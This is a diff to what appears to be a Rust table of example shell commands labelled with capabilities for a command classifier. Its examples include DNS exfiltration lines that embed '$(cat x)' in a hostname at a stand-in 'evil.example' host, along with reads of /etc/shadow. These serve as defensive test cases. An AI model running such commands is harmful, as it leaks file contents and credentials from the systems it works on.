@@ -26,7 +26,7 @@ pub(super) const TABLE: &[Model] = &[
         asks_names,
         &[
             ex("dig +short example.com", &["network"]),
-            ex("drill $(cat x).evil.example", &["network:send"]),
+            ex("drill x$(cat x).evil.example", &["network:send"]),
             ex("nslookup example.com", &["network"]),
             ex("dig @203.0.113.5 example.com", &["network"]),
             ex("dig -f /etc/shadow", &["network:send", "read:secret"]),
@@ -47,7 +47,7 @@ pub(super) const TABLE: &[Model] = &[
         },
         &[
             ex("ping -c1 localhost", &["network"]),
-            ex("ping -c1 $(cat x).evil.example", &["network:send"]),
+            ex("ping -c1 x$(cat x).evil.example", &["network:send"]),
         ],
     ),
     model(
@@ -85,7 +85,7 @@ pub(super) const TABLE: &[Model] = &[
         },
         &[
             ex("getent hosts example.com", &[]),
-            ex("getent hosts $(cat x).evil.example", &["network:send"]),
+            ex("getent hosts x$(cat x).evil.example", &["network:send"]),
             ex("getent shadow", &["read:secret"]),
             ex("getent passwd root", &[]),
         ],
